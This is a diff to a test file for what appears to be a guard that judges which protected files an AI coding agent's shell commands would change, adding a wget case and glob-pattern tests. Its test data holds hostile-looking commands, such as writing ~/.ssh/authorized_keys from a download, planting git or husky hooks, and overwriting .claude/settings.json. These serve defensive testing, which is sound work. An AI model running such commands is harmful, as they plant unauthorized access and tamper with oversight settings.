@@ -6,6 +6,7 @@ from pathlib import Path
 
 import pytest
 
+from tests.kit.files import write_tree
 from ultra_runtime.guard.follow.watch import watch
 from ultra_runtime.guard.judge import Judge
 from ultra_runtime.guard.shell.marks import HOME, UNKNOWN, USER_HOME, known
@@ -325,6 +326,7 @@ def judge(folder: Path) -> Judge:
         ("ex -sc x .env", "env_file"),
         ("curl -o ~/.ssh/authorized_keys example.org/k", "secret_keys"),
         ("wget -O ../y example.org/k", "outside_repository"),
+        ("wget -P .husky example.org/k", "hook_script"),
         ("cd .git/hooks && cat > pre-commit <<E\nx\nE", "hook_script"),
         ("tee .claude/settings.json < x", "client_settings"),
         ("echo x > ../y", "outside_repository"),
@@ -352,6 +354,24 @@ def judge(folder: Path) -> Judge:
     ],
 )
 def test_the_judge_of_what_a_command_changes(command: str, rule: str, tmp_path: Path) -> None:
+    assert judge(tmp_path).command(command).rule == rule
+
+
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        ("rm .e*", "env_file"),
+        ("sed -i s/a/b/ */.claude/set*", "client_settings"),
+        ("cp x ?eb/.claude/settings.json", "client_settings"),
+        ("chmod 644 .[a-f]nv", "env_file"),
+        ("rm *", ""),
+        ("rm -r web/*", ""),
+        ("rm .x* nothing*", ""),
+        ("rm */*/*", ""),  # to look for these could take too long
+    ],
+)
+def test_a_pattern_means_the_files_that_it_names(command: str, rule: str, tmp_path: Path) -> None:
+    write_tree(tmp_path, {".env": "", "web/.claude/settings.json": "", "a": ""})
     assert judge(tmp_path).command(command).rule == rule
 
 
